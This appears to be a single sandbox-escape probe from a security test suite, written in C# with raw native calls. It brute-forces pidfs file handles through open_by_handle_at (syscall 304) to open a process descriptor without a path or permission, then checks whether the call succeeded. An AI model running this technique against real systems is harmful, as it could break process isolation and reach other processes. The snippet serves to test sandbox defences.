// attack: Opens a descriptor of a process by a handle of the process file system, which needs no path and no right.
// group: files
// at none: depends: kernels before 6.17 have no such handles
// uses: native
// needs: x64

var (handle, mount) = (Native.Zeros(136), Native.Zeros(8));
long opened = -1;
for (var inode = 1L; inode < 4096 && opened < 0; inode++)
{
    // struct file_handle: 8 bytes of type FILEID_KERNFS; FD_PIDFS_ROOT is -10002.
    Marshal.WriteInt32((nint)handle, 8);
    Marshal.WriteInt32((nint)handle + 4, 0xFE);
    Marshal.WriteInt64((nint)handle + 8, inode);
    opened = Native.Call(304, -10002, handle, 0);
}

Native.Succeeded(opened)
